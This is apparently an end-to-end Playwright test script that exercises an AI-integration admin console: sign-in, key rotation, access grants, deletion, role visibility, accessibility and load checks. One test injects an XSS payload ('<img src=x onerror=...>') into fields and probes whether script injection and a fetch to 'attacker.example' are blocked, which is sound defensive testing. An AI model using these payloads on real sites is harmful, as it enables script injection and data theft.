// Use the console at CONSOLE_URL in Chromium as an admin, a member and a reader would, and print the observations as JSON.
// SHOTS is a folder for screenshots. Node.js reads this script from standard input, so that it imports its packages from
// the working directory.
import axe from "axe-core";
import { chromium } from "playwright-core";

const { CONSOLE_URL, ADMIN_KEY, MEMBER_KEY, READER_KEY, CROWD_KEY, PROVIDER_URL, SECRET_ARN, CHROMIUM, SHOTS } = process.env;
const API = CONSOLE_URL.replace(/console$/, "");
const WIDE = { width: 1280, height: 900 };
const NARROW = { width: 390, height: 844 };
const NOT_LOADED = { responseBodySize: 0, responseHeadersSize: 0 };
const GOOD_KEY = "sk-fake-console-good";
const BAD_KEY = "sk-fake-console-bad";
const MARKUP = "<img src=x onerror=\"window.attacked = true\">";

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
});
const errors = [];
const hosts = new Set();

// ---------------------------------------------------------------- helpers
async function open({ hash = "", quiet = false, ...options } = {}) {
  const context = await browser.newContext({ viewport: WIDE, reducedMotion: "reduce", permissions: ["clipboard-read", "clipboard-write"], ...options });
  const page = await context.newPage();
  page.on("request", (request) => hosts.add(new URL(request.url()).host));
  // The browser itself reports each response with an error status, which some of these steps ask for.
  page.on("console", (message) => !quiet && message.type() === "error" && !message.text().startsWith("Failed to load resource") && errors.push(message.text()));
  page.on("pageerror", (error) => errors.push(error.message));
  await page.goto(CONSOLE_URL + hash);
  return page;
}

async function signIn(page, key = ADMIN_KEY) {
  await page.getByLabel("Access key").fill(key);
  await page.getByRole("button", { name: "Sign in" }).click();
}

async function signedIn(hash, { key, ...options } = {}) {
  const page = await open({ hash, ...options });
  await signIn(page, key);
  await page.getByRole("button", { name: "Sign out" }).waitFor();
  return page;
}

// Send a request beside the page, as another user would.
async function api(method, path, body, key = ADMIN_KEY) {
  const response = await fetch(API + path, { method, headers: { Authorization: `Bearer ${key}`, "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
  return response.status === 204 ? null : response.json();
}

const create = (name, settings = {}) => api("POST", "ai-integrations", { name, provider: "CUSTOM", base_url: PROVIDER_URL, api_key: GOOD_KEY, ...settings });
const addressOf = ({ id }) => `#/integrations/${id}`;
const button = (scope, name) => scope.getByRole("button", { name, exact: true });
const status = (page) => page.locator("#status");
const headingText = (page) => page.getByRole("heading", { level: 1 }).innerText();
const cardNamed = (page, name) => page.locator("section.card").filter({ has: page.getByRole("heading", { name, exact: true }) });

async function announced(page, text) {
  await status(page).filter({ hasText: text }).waitFor();
  return status(page).innerText();
}

// ---------------------------------------------------------------- observations
async function session() {
  const page = await open();
  await signIn(page, "aik_" + "x".repeat(43));
  const alert = page.getByRole("alert");
  await alert.filter({ hasText: "not accepted" }).waitFor();
  const rejected = await alert.innerText();
  await signIn(page);
  await page.getByRole("table").waitFor();
  const stored = await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie.length, location.href]);
  await page.reload();
  const keyAfterReload = await page.getByLabel("Access key").inputValue();
  await signIn(page);
  await page.getByRole("table").waitFor();
  await page.route("**/v2/spaces*", (route) => route.fulfill({ status: 401, contentType: "application/problem+json", body: "{}" }));
  await page.route("**/v2/consumers*", (route) => route.fulfill({ status: 401, contentType: "application/problem+json", body: "{}" }));
  await page.getByRole("link", { name: "Consumers" }).click();
  await page.getByRole("alert").filter({ hasText: "not accepted" }).waitFor();
  const expired = { message: await page.getByRole("alert").innerText(), text: await page.locator("main").innerText() };
  await page.unrouteAll();
  await signIn(page);
  await button(page, "Sign out").click();
  const signedOut = await page.getByLabel("Access key").inputValue();
  return { rejected, stored, keyAfterReload, expired, signedOut };
}

// The states of the list: failed, loaded after another try, and empty.
async function states() {
  const page = await open({ hash: "#/integrations" });
  await page.route("**/v2/ai-integrations?*", (route) => route.fulfill({ status: 503, json: { detail: "A dependency failed." } }), { times: 1 });
  await signIn(page);
  const state = page.locator("integration-list > [role=status]");
  await button(page, "Try again").waitFor();
  const failed = await state.innerText();
  await button(page, "Try again").click();
  await page.getByRole("rowheader").first().waitFor();
  await page.getByLabel(/^Name/).fill("no such name");
  await page.getByRole("rowheader").first().waitFor({ state: "detached" });
  await state.filter({ hasNotText: "Loading" }).waitFor();
  return { failed, empty: await state.innerText() };
}

const FEDERATION = {
  OPEN_AI: { "Identity provider ID": "idp_console", "Service account ID": "svc_acct_console" },
  LITELLM: { "Token endpoint": `${PROVIDER_URL}/token`, Grant: "token-exchange", Audience: "https://tokens.localhost" },
};
// The labels of fields and their values, by the name of the integration.
const KINDS = {
  "Kind: key": { Provider: "OPEN_AI", Credentials: "api_key", "API key": GOOD_KEY },
  "Kind: no key": { Provider: "CUSTOM", Credentials: "none", "Base URL": PROVIDER_URL },
  "Kind: secret": { Provider: "ANTHROPIC", Credentials: "api_key_secret_arn", "ARN of the secret": SECRET_ARN },
  "Kind: role": { Provider: "AWS_BEDROCK", "Role ARN": "arn:aws:iam::123456789012:role/console" },
  "Kind: Google Cloud": { Provider: "VERTEX_AI", "Project ID": "my-project", Location: "europe-west1", "Project access label": "llm", Credentials: "none" },
  "Kind: federation": { Provider: "OPEN_AI", Credentials: "federation", ...FEDERATION.OPEN_AI },
  "Kind: own federation": { Provider: "LITELLM", "Base URL": PROVIDER_URL, Credentials: "federation", ...FEDERATION.LITELLM, "Parameters of the token request": "scope: models" },
  "Kind: Fireworks": { Provider: "FIREWORKS", Credentials: "api_key", "API key": GOOD_KEY },
  "Kind: Together AI": { Provider: "TOGETHER_AI", Credentials: "api_key", "API key": GOOD_KEY },
};

async function fill(page, fields) {
  for (const [label, value] of Object.entries(fields)) {
    const control = page.getByLabel(new RegExp(`^${label}( \\(required\\))?$`)).first();
    if (await control.evaluate((each) => each.tagName === "SELECT")) await control.selectOption(value);
    else await control.fill(value);
  }
}

async function createKind(name) {
  const page = await signedIn("#/new");
  await fill(page, { ...KINDS[name], Name: name });
  await button(page, "Create").click();
  await announced(page, "was created");
  await page.getByText("Settings", { exact: true }).waitFor();
  const copied = {};
  for (const label of ["Trust policy", "Claims to trust"]) {
    const copy = button(page, `Copy ${label}`);
    if (name.endsWith("role") ? label !== "Trust policy" : !name.endsWith("federation") || label === "Trust policy") continue;
    await copy.click();
    copied[label] = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
  }
  const shown = { heading: await headingText(page), text: await page.locator("main").innerText(), copied };
  await page.context().close();
  return shown;
}

async function kinds() {
  const shown = {};
  for (const name of Object.keys(KINDS)) shown[name] = await createKind(name);
  return shown;
}

async function fieldMessages() {
  const page = await signedIn("#/new");
  await fill(page, { Name: "Fields", Provider: "AWS_BEDROCK", "Role ARN": "not an arn", "Base URL": "ftp://example.com" });
  await button(page, "Create").click();
  await page.locator("[aria-invalid]").first().waitFor();
  const messages = await page.locator(".field").evaluateAll((all) => Object.fromEntries(all.filter((each) => each.querySelector("[aria-invalid]")).map((each) => [each.dataset.pointer, each.querySelector(".message").textContent.trim()])));
  const described = await page.locator("[aria-invalid]").first().evaluate((each) => each.getAttribute("aria-describedby").split(" ").map((id) => document.getElementById(id).textContent).join(" "));
  return { messages, described, focused: await page.evaluate(() => document.activeElement.closest(".field")?.dataset.pointer) };
}

async function conflict() {
  const integration = await create("Conflict", { model_names: ["first"] });
  const page = await signedIn(`#/edit/${integration.id}`);
  await page.getByLabel(/^Name/).fill("Conflict, mine");
  await api("PATCH", `ai-integrations/${integration.id}`, { name: "Conflict, theirs", model_names: ["second"] });
  await button(page, "Save").click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("table").waitFor();
  const rows = await dialog.getByRole("row").allInnerTexts();
  await button(dialog, "Save my changes").click();
  await announced(page, "was saved");
  return { rows, saved: await api("GET", `ai-integrations/${integration.id}`) };
}

async function edit() {
  const integration = await create("Edit", { headers: { "X-Team": "one" } });
  const page = await signedIn(addressOf(integration));
  await page.getByRole("link", { name: "Edit", exact: true }).click();
  await page.getByLabel("Headers").fill("X-Team: two");
  await page.getByLabel("Visible to").fill("Research / Search");
  await page.keyboard.press("Enter");
  await page.getByLabel("Models", { exact: true }).fill("typed-model");
  await page.keyboard.press("Enter");
  await button(page, "Save").click();
  await announced(page, "was saved");
  return api("GET", `ai-integrations/${integration.id}`);
}

async function rotation() {
  const integration = await create("Rotation");
  const page = await signedIn(addressOf(integration));
  const rotate = async (key, { verify = false } = {}) => {
    await button(page, "Rotate key").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("New API key").fill(key);
    await dialog.getByLabel("Keep the previous key usable").selectOption("3600");
    if (verify) await dialog.getByLabel("Test the new key").check();
    await button(dialog, "Rotate").click();
    return dialog;
  };
  const dialog = await rotate(BAD_KEY, { verify: true });
  await dialog.getByText("status 401").waitFor();
  const rejected = await dialog.innerText();
  await button(dialog, "Cancel").click();
  const focusAfterCancel = await page.evaluate(() => document.activeElement.textContent);
  await rotate(`${GOOD_KEY}-2`);
  const rotated = await announced(page, "was rotated");
  await button(page, "Roll back key").click();
  await button(page.getByRole("dialog"), "Roll back").click();
  const rolledBack = await announced(page, "previous key is the current one");
  await button(page, "Roll back key").waitFor({ state: "detached" });
  return { rejected, rotated, rolledBack, focusAfterCancel };
}

async function connection() {
  const failing = await create("Failing", { api_key: BAD_KEY });
  const passing = await create("Passing", { model_names: ["tiny-1"] });
  const results = {};
  for (const integration of [failing, passing]) {
    const page = await signedIn(addressOf(integration));
    await button(page, "Test the connection").click();
    await announced(page, "The test has ended");
    const card = cardNamed(page, "Connection");
    results[integration.name] = { text: await card.innerText(), steps: await card.getByRole("listitem").count(), focus: await page.evaluate(() => document.activeElement.textContent) };
  }
  const page = await signedIn(`#/edit/${passing.id}`);
  await page.locator("datalist option[value=tiny-1]").waitFor({ state: "attached" });
  results.suggested = await page.getByLabel("Models", { exact: true }).evaluate((entry) => [...entry.list.options].map((each) => each.value));
  const fresh = await signedIn("#/new");
  await fill(fresh, { Name: "Unsaved", Provider: "CUSTOM", "Base URL": PROVIDER_URL, "API key": GOOD_KEY });
  await button(fresh, "Test before saving").click();
  await fresh.getByText("Passed").first().waitFor();
  results.unsaved = await fresh.getByRole("region", { name: "Connection test" }).innerText();
  return results;
}

async function grants() {
  const [one, other] = [await create("Granted"), await create("Granted too")];
  const page = await signedIn(addressOf(one));
  await button(page, "Grant access").click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("ARN of the IAM role or user").fill("arn:aws:iam::111122223333:role/console-consumer");
  await dialog.getByLabel(/^Name/).fill("Console consumer");
  await dialog.getByLabel("Integrations").fill("Granted too");
  await dialog.locator("datalist option[value='Granted too']").waitFor({ state: "attached" });
  await page.keyboard.press("Enter");
  await button(dialog, "Grant").click();
  await announced(page, "was granted");
  await page.getByRole("cell", { name: "This integration" }).waitFor();
  const [granted] = (await api("GET", "consumers")).consumers;
  await button(page, "Revoke Console consumer").click();
  await button(page.getByRole("dialog"), "Revoke").click();
  await announced(page, "was revoked");
  const [left] = (await api("GET", "consumers")).consumers;
  const focused = await page.evaluate(() => document.activeElement.textContent);
  await page.getByRole("link", { name: "Consumers" }).click();
  await button(page, "Revoke Console consumer").click();
  await button(page.getByRole("dialog"), "Revoke").click();
  await page.getByText("No consumer has access.").waitFor();
  return { ids: [one.id, other.id], granted, left, focused, none: (await api("GET", "consumers")).consumers };
}

async function deletion() {
  const [integration] = (await api("GET", "ai-integrations?name=Deletion")).ai_integrations; // in use already
  const page = await signedIn(addressOf(integration));
  await button(page, "Delete").click();
  const dialog = page.getByRole("dialog");
  const question = await dialog.innerText();
  await button(dialog, "Delete").click();
  await announced(page, "was deleted");
  const gone = await api("GET", `ai-integrations/${integration.id}`);
  const row = page.getByRole("row").filter({ hasText: "Deletion" });
  await row.waitFor();
  const listed = await row.innerText();
  const other = await create("Deletion"); // takes the name
  await button(page, "Restore Deletion").click();
  const alert = page.getByRole("alert").filter({ hasText: "name" });
  await alert.waitFor();
  const refused = await alert.innerText();
  await api("PATCH", `ai-integrations/${other.id}`, { name: "Renamed" });
  await button(page, "Restore Deletion").click();
  await announced(page, "was restored");
  await page.getByText("Settings", { exact: true }).waitFor();
  const heading = await headingText(page);
  await page.getByRole("link", { name: "Deleted" }).click();
  await page.getByText("There is nothing to restore.").waitFor();
  return { question, listed, refused, gone: gone.status, restored: (await api("GET", `ai-integrations/${integration.id}`)).name, heading };
}

async function deletedCrowd() {
  const page = await signedIn("#/deleted", { key: CROWD_KEY });
  await page.getByText("100 integrations, and more").waitFor();
  await button(page, "Show more").press("Enter");
  await page.waitForFunction(() => document.activeElement.closest("tbody"));
  const focused = await page.evaluate(() => document.activeElement.ariaLabel);
  return { shown: await page.getByRole("rowheader").count(), focused, state: await page.locator("main [role=status]").innerText() };
}

async function roles() {
  const secret = await create("For admins only", { scopings: [{ space_id: "space-support" }] });
  const shared = await create("For everyone");
  const own = await create("Of Research", { scopings: [{ organization_id: "org-research" }] });
  const seen = {};
  for (const [role, key] of [["reader", READER_KEY], ["member", MEMBER_KEY]]) {
    const page = await signedIn("#/integrations", { key });
    await page.getByRole("link", { name: "For everyone" }).waitFor();
    const names = await page.getByRole("rowheader").allInnerTexts();
    const links = await page.getByRole("navigation").getByRole("link").allInnerTexts();
    await page.goto(`${CONSOLE_URL}${addressOf(own)}`);
    await page.getByText("Settings", { exact: true }).waitFor();
    const acts = await page.locator("main").getByRole("button").allInnerTexts();
    await page.goto(`${CONSOLE_URL}#/edit/${own.id}`);
    await page.getByLabel(/^Name/).fill(`Of Research, by a ${role}`);
    await button(page, "Save").click();
    await page.locator("#status:not(:empty), [role=alert]:not(:empty)").first().waitFor();
    seen[role] = { secret: names.includes(secret.name), shared: names.includes(shared.name), links, acts, edit: await page.locator("main, #status").allInnerTexts() };
  }
  return seen;
}

async function markup() {
  const hostile = await create(`Hostile ${MARKUP}`, { model_names: [`model ${MARKUP}`], headers: { "X-Hostile": MARKUP }, api_key: BAD_KEY });
  const page = await signedIn("#/integrations", { quiet: true });
  const result = { status: "failed", rungs: [{ name: "reachable", status: "failed", latency_ms: 1, not_proved: MARKUP, provider_said: `Provider ${MARKUP}` }] };
  await page.route("**/test", (route) => route.fulfill({ json: result }));
  await page.getByRole("link", { name: hostile.name }).click();
  await button(page, "Test the connection").click();
  await announced(page, "The test has ended");
  await page.getByText("Settings", { exact: true }).waitFor();
  const shown = await page.locator("main").innerText();
  const blocked = await page.evaluate(async () => {
    const directives = [];
    addEventListener("securitypolicyviolation", (event) => directives.push(event.effectiveDirective));
    const script = document.createElement("script");
    const outcomes = {};
    const attempt = (name, act) => { try { act(); outcomes[name] = "done"; } catch (error) { outcomes[name] = error.name; } };
    attempt("innerHTML", () => { document.body.innerHTML = "<b>x</b>"; });
    attempt("text of a script", () => { script.text = "window.attacked = true"; });
    script.append("window.attacked = true");
    document.head.append(script);
    new Image().src = "/leak";
    await fetch("http://attacker.example/").catch(() => {});
    await new Promise((resolve) => { setTimeout(resolve, 300); });
    return { outcomes, directives };
  });
  return { shown, images: await page.locator("main img").count(), attacked: await page.evaluate(() => window.attacked ?? false), blocked };
}

// What the first view of an account with 1,000 integrations loads, and how long it takes.
async function crowd() {
  const page = await open();
  await page.waitForLoadState("networkidle");
  const sizes = [];
  page.on("requestfinished", (request) => request.url().includes("/console") && sizes.push(request.sizes().catch(() => NOT_LOADED)));
  const loaded = async () => {
    const found = await Promise.all(sizes);
    const sum = (field) => found.reduce((total, each) => total + each[field], 0);
    return { files: found.length, bytes: sum("responseBodySize"), headers: sum("responseHeadersSize") };
  };
  await page.reload({ waitUntil: "networkidle" });
  const first = { ...await loaded(), milliseconds: await page.evaluate(() => performance.getEntriesByType("navigation")[0].loadEventEnd) };
  await page.getByLabel("Access key").fill(CROWD_KEY);
  const started = performance.now();
  await button(page, "Sign in").click();
  await page.getByRole("row").nth(50).waitFor();
  const milliseconds = performance.now() - started;
  await button(page, "Show more").click();
  await page.getByRole("row").nth(100).waitFor();
  const shown = await page.getByRole("row").count();
  await page.waitForFunction(() => document.activeElement.closest("tbody"));
  const focused = await page.evaluate(() => document.activeElement.textContent);
  await page.getByLabel(/^Name/).fill("number 99");
  await page.getByText("11 integrations", { exact: true }).waitFor();
  const found = await page.getByRole("rowheader").allInnerTexts();
  await page.getByLabel(/^Name/).fill("");
  await page.getByLabel("Provider").selectOption("GEMINI");
  await page.getByText("No integration matches").waitFor();
  const views = { "#/keys": "key-list", "#/deleted": "deleted-list", "#/consumers": "consumer-list", "#/audit": "audit-log", "#/new": "integration-editor", "#/integrations/any": "integration-page" };
  for (const [hash, element] of Object.entries(views)) {
    await page.goto(CONSOLE_URL + hash);
    await page.locator(element).waitFor();
  }
  return { first, all: await loaded(), milliseconds, shown, focused, found };
}

async function keyboard() {
  const page = await signedIn("#/integrations");
  await page.getByRole("rowheader").first().waitFor();
  const focusOfView = await page.evaluate(() => document.activeElement.tagName);
  await page.getByRole("rowheader").getByRole("link").first().press("Enter");
  await page.getByText("Settings", { exact: true }).waitFor();
  const focusOfNext = await page.evaluate(() => [document.activeElement.tagName, document.title]);
  await button(page, "Delete").press("Enter");
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  return { focusOfView, focusOfNext, focusAfterEscape: await page.evaluate(() => document.activeElement.textContent) };
}

// ---------------------------------------------------------------- looks
async function look(page, view, element, hash, act, name) {
  await page.goto(CONSOLE_URL + hash);
  await page.locator(`${element} h1`).waitFor();
  await page.waitForFunction(() => !/Loading/.test(document.querySelector("main").innerText));
  if (act) {
    await button(page, act).first().click();
    await page.getByRole("dialog").waitFor();
  }
  await page.evaluate(() => document.activeElement.blur());
  if (SHOTS) await page.screenshot({ path: `${SHOTS}/${view}-${name}.png`, fullPage: !act });
  const { violations } = await page.evaluate("axe.run()");
  const outside = await page.locator("main *, dialog *").evaluateAll((all) =>
    all.filter((each) => each.checkVisibility() && !each.closest("thead, svg") && each.getBoundingClientRect().right > innerWidth + 1).map((each) => each.outerHTML.slice(0, 80)));
  if (act) await page.keyboard.press("Escape");
  return [...violations.flatMap(({ id, nodes }) => nodes.map(({ target }) => `${view}-${name}: ${id}: ${target}`)), ...outside];
}

async function looks(integration) {
  await api("DELETE", `ai-integrations/${(await create("Looks, deleted")).id}`);
  const one = addressOf(integration);
  const views = [
    ["list", "integration-list", "#/integrations"], ["integration", "integration-page", one],
    ["new", "integration-editor", "#/new"], ["edit", "integration-editor", `#/edit/${integration.id}`],
    ["keys", "key-list", "#/keys"], ["deleted", "deleted-list", "#/deleted"], ["consumers", "consumer-list", "#/consumers"], ["audit", "audit-log", "#/audit"],
    ["rotate", "integration-page", one, "Rotate key"], ["delete", "integration-page", one, "Delete"], ["grant", "consumer-list", "#/consumers", "Grant access"],
  ];
  const found = [];
  for (const viewport of [WIDE, NARROW]) {
    for (const colorScheme of ["light", "dark"]) {
      const page = await signedIn("#/integrations", { viewport, colorScheme });
      await page.evaluate(axe.source);
      for (const [view, element, hash, act] of views) found.push(...await look(page, view, element, hash, act, `${viewport.width}-${colorScheme}`));
      await page.context().close();
    }
  }
  return found;
}

try {
  const integration = await create("Looks", { model_names: ["tiny-1"], headers: { "X-Team": "research" } });
  await api("POST", `ai-integrations/${integration.id}/test`);
  const observed = {
    session: await session(), states: await states(), kinds: await kinds(), fields: await fieldMessages(), conflict: await conflict(), edit: await edit(),
    rotation: await rotation(), connection: await connection(), grants: await grants(), deletion: await deletion(), deletedCrowd: await deletedCrowd(), roles: await roles(),
    markup: await markup(), crowd: await crowd(), keyboard: await keyboard(), looks: await looks(integration),
  };
  console.log(JSON.stringify({ ...observed, errors, hosts: [...hosts] }));
} finally {
  await browser.close();
}
